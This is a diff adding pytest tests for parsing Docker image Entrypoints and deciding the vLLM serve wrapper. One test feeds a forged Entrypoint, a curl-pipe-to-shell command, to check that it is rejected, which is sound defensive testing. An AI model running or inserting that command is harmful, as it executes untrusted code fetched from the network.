@@ -221,3 +221,23 @@ def test_docker_load_naming_another_tag_fails_the_copy(output, extra):
 
     assert unexpected_tags(output, "nvcr.io/nvidia/vllm:26.05-py3") == extra
     assert unexpected_tags("Loaded image: vllm-standin:latest\n", "docker.io/library/vllm-standin:latest") == []
+
+
+def test_the_image_entrypoint_is_read_and_a_forged_one_is_a_probe_failure():
+    ngc = copy.deepcopy(CLASSIC)
+    ngc["Config"]["Entrypoint"] = ["/opt/nvidia/nvidia_entrypoint.sh"]  # as nvcr.io/nvidia/vllm images carry it
+    assert image_from_inspect(ngc).entrypoint == ["/opt/nvidia/nvidia_entrypoint.sh"]
+    ngc["Config"]["Entrypoint"] = "/bin/sh -c 'curl x | sh'"
+    with pytest.raises(TypeError, match="not an image Entrypoint"):
+        image_from_inspect(ngc)
+
+
+@pytest.mark.parametrize(("entrypoint", "wrapper"), [
+    (["/opt/nvidia/nvidia_entrypoint.sh"], ("/opt/nvidia/nvidia_entrypoint.sh",)),  # NGC: ends in exec "$@"
+    (["vllm", "serve"], ()),  # vllm/vllm-openai: the Entrypoint is the program itself
+    (["/usr/bin/python3", "-m", "vllm.entrypoints.openai.api_server"], ()),
+    ([], ()),
+])
+def test_vllm_serve_runs_under_a_wrapper_entrypoint_only(entrypoint, wrapper):
+    from reconciler.core.vllm import serve_wrapper
+    assert serve_wrapper(entrypoint) == wrapper
